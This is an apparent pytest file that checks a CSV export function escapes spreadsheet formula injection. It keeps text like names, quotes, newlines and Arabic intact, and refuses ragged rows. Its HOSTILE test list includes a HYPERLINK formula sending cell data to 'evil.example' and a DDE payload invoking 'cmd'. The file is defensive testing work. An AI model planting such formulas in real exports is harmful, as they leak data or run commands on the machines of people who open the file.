"""Exports that open in a spreadsheet: no cell a spreadsheet would run as a formula; everything else intact."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pandas as pd
import pytest

from cpd.exports import csv_bytes, neutralise

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\uff1d1+1",
    "=cmd|' /C calc'!A0",
]
ORDINARY = ["Zoë Ångström", "O'Brien", 'say "hi", then, go', "line one\nline two", "محمد", "", "a=b", "x-ray"]


def read_back(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_no_cell_starts_like_a_formula_and_the_text_survives():
    rows = [[value, i] for i, value in enumerate(HOSTILE + ORDINARY)]
    header, *cells = read_back(csv_bytes(["name", "n"], rows))
    assert header == ["name", "n"]
    for (written, n), (original, i) in zip(cells, rows, strict=True):
        assert not written or written[0] not in "=+-@\t\r\uff1d"
        assert n == str(i)
        if original in HOSTILE:
            assert written == "'" + original  # shown as the text that was typed, never evaluated
        else:
            assert written == original


def test_an_independent_reader_sees_the_same_table():
    rows = [["=1+1", -5, 2.5, None, True, datetime(2026, 12, 1, 9, 30, tzinfo=UTC)], ["Zoë, \"Dr\"", 0, 0.0, "", False, None]]
    frame = pd.read_csv(io.BytesIO(csv_bytes(["name", "a", "b", "c", "d", "e"], rows)), encoding="utf-8-sig",
                        keep_default_na=False, dtype=str)
    assert frame.to_dict("records") == [
        {"name": "'=1+1", "a": "-5", "b": "2.5", "c": "", "d": "yes", "e": "2026-12-01T09:30:00+00:00"},
        {"name": 'Zoë, "Dr"', "a": "0", "b": "0.0", "c": "", "d": "no", "e": ""},
    ]


def test_numbers_stay_numbers_and_headers_are_neutralised_too():
    assert neutralise(-5) == "-5" and neutralise(-2.5) == "-2.5"
    assert neutralise("-5") == "'-5"  # text that merely looks like a number is still text
    (header,) = read_back(csv_bytes(["=evil"], []))
    assert header == ["'=evil"]


def test_a_row_of_the_wrong_length_is_refused():
    with pytest.raises(ValueError, match="row 2 has 1 cells; the header has 2"):
        csv_bytes(["a", "b"], [[1, 2], [3]])
